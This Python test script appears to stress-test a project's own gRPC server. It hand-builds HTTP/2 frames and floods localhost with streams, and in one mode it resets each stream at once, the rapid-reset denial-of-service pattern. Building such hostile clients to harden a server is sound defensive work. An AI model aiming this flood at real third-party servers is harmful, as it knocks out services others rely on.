"""A client that opens streams as fast as it can, by hand: `python -m tests.hostile_http2 PORT SECONDS KIND`.

KIND `reset`: each stream carries a whole request and is reset at once. `keep`: none is reset, and no answer is read
for."""

import socket
import struct
import sys
import threading
import time
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_HEADERS, END_STREAM = 4, 1
CANCEL = struct.pack(">I", 8)
STREAMS_AT_ONCE = 50

FIELDS = [
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/fastlane.v1.JobService/GetJob"),
    (b":authority", b"server"),
    (b"te", b"trailers"),
    (b"content-type", b"application/grpc"),
]
# Literal fields that are not indexed, their lengths as they are: no value is longer than 126 bytes.
BLOCK = b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in FIELDS)
# GetJobRequest(job_id="abc"), not compressed.
MESSAGE = b"\0" + struct.pack(">I", 5) + b"\x0a\x03abc"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def read_on(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(65_536):
            pass


def attack(port: int, until: float, *, reset: bool) -> int:
    """How many streams it opened, over one connection after the other."""
    opened = 0
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port)) as connection:
            threading.Thread(target=read_on, args=[connection], daemon=True).start()
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            stream = 1
            while time.monotonic() < until:
                frames = []
                for _ in range(STREAMS_AT_ONCE):
                    frames += [frame(HEADERS, END_HEADERS, stream, BLOCK), frame(DATA, END_STREAM, stream, MESSAGE)]
                    if reset:
                        frames.append(frame(RST_STREAM, 0, stream, CANCEL))
                    stream += 2
                connection.sendall(b"".join(frames))
                opened += STREAMS_AT_ONCE
    return opened


if __name__ == "__main__":
    port, seconds, kind = sys.argv[1:]
    sys.stdout.write(f"{attack(int(port), time.monotonic() + float(seconds), reset=kind == 'reset')}\n")
